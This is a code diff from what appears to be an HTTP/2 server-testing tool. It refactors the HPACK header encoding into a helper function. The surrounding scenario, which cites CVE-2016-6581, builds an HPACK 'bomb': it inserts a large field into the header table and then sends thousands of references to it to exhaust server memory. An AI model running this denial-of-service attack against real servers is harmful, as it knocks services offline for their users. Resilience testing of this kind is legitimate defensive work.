@@ -31,6 +31,19 @@ hpack::HeaderList Request(const Target& t) {
   return {{":method", "GET"}, {":scheme", t.scheme()}, {":authority", t.authority}, {":path", t.path}};
 }
 
+// The request's fields as HPACK literals without indexing (no table change), raw strings.
+std::string LiteralRequest(const Target& t) {
+  std::string block;
+  for (const hpack::HeaderField& f : Request(t)) {
+    block.push_back('\0');
+    block.push_back(static_cast<char>(f.name.size()));
+    block += f.name;
+    block.push_back(static_cast<char>(f.value.size()));
+    block += f.value;
+  }
+  return block;
+}
+
 // Samples the server's memory while a scenario runs.
 struct Memory {
   int pid = -1;
@@ -185,14 +198,7 @@ std::vector<Def> Scenarios() {
        "RFC 7541 §7.3; CVE-2016-6581",
        [](Attack& a) {
          // Request 1 adds the big field (literal with incremental indexing) to the table.
-         std::string first;
-         for (const hpack::HeaderField& f : Request(a.target)) {
-           first.push_back('\0');
-           first.push_back(static_cast<char>(f.name.size()));
-           first += f.name;
-           first.push_back(static_cast<char>(f.value.size()));
-           first += f.value;
-         }
+         std::string first = LiteralRequest(a.target);
          first.push_back(0x40);
          first.push_back(6);
          first += "x-bomb";
@@ -205,15 +211,7 @@ std::vector<Def> Scenarios() {
          uint32_t id = 3;
          const std::string refs(16000, static_cast<char>(0xbe));  // index 62
          for (uint64_t i = 0; i < Count(a.options, 200) && a.TimeLeft(); ++i, id += 2) {
-           std::string block;
-           for (const hpack::HeaderField& f : Request(a.target)) {
-             block.push_back('\0');
-             block.push_back(static_cast<char>(f.name.size()));
-             block += f.name;
-             block.push_back(static_cast<char>(f.value.size()));
-             block += f.value;
-           }
-           block += refs;
+           const std::string block = LiteralRequest(a.target) + refs;
            a.conn->out().HeadersFragment(id, block.substr(0, 16000), kFlagEndStream);
            a.conn->out().Continuation(id, block.substr(16000), kFlagEndHeaders);
            if (!a.Send(2, true)) break;
